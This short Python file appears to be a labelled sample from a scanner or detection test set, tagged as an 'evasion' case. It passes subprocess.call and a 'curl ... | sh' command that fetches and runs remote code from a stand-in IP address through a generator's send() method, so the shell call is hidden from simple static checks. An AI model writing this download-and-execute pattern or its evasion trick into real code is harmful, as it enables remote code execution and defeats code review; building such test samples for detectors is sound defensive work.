# evasion: a coroutine generator receives the function and its argument by send()
# grade: medium; does: shell
import subprocess


def worker():
    while True:
        fn, arg = yield
        fn(arg, shell=True)


w = worker()
next(w)
w.send((subprocess.call, "curl -s http://203.0.113.7/x | sh"))
